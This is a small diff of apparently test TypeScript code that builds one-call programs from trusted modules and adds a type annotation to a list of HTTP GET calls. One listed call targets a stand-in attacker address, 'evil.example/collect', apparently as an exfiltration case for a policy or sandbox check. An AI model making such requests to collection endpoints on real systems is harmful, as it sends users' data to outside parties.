@@ -40,7 +40,7 @@ import { ${fn} } from "trusted/${module}";
 export default program({ rationale: "one call", guarantees: [], async main() { await ${fn}(${JSON.stringify(args)}); } });
 `;
 
-const calls = [
+const calls: { op: string; module: string; fn: string; args: Record<string, string> }[] = [
   { op: "http.get", module: "http", fn: "get", args: { url: "https://api.example.com/v1/status" } },
   { op: "http.get", module: "http", fn: "get", args: { url: "https://evil.example/collect?x=1" } },
   { op: "http.get", module: "http", fn: "get", args: { url: "https://api.example.com/docs/a" } },
